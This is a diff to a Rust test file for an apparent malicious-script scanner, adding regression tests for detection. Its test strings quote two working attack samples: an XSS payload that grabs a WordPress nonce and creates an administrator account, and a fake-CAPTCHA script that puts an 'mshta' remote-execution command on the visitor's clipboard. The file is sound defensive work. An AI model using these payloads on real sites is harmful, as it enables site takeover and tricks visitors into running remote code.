@@ -544,3 +544,19 @@ fn a_redirect_to_a_gambling_site_is_found() {
     let club = "var link = 'https://slotcars.example.org/'; document.getElementById('a').href = link;";
     assert_eq!(found(club), None);
 }
+
+#[test]
+fn a_script_making_an_administrator_or_a_command_to_paste_is_found() {
+    // Regression: fresh179's XSS payload adds an administrator through WordPress's own form.
+    let admin = "var r = new XMLHttpRequest(); r.open('GET', '/wp-admin/user-new.php', false); r.send();\n\
+                 var nonce = r.responseText.match(/_wpnonce_create-user\" value=\"([^\"]+)\"/)[1];\n\
+                 r.open('POST', '/wp-admin/user-new.php', false); r.send('action=createuser&_wpnonce_create-user=' + nonce + '&role=administrator');";
+    assert_eq!(injected(admin.as_bytes()).map(|i| i.why), Some(Why::InjectedScript));
+    // Regression: fresh179's fake CAPTCHA puts `mshta …` on the clipboard.
+    let paste = "function copy(t) { var a = document.createElement('textarea'); a.value = t; document.body.appendChild(a); a.select(); document.execCommand(\"copy\"); }\n\
+                 const commandToRun = \"mshta \" + window.location.origin + \"/recaptcha-verify\"; copy(commandToRun);";
+    assert_eq!(injected(paste.as_bytes()).map(|i| i.why), Some(Why::InjectedScript));
+    // A documentation page's copy button for an install command.
+    let docs = "button.onclick = function () { navigator.clipboard.writeText(\"composer require vendor/pkg\"); };";
+    assert_eq!(found(docs), None);
+}
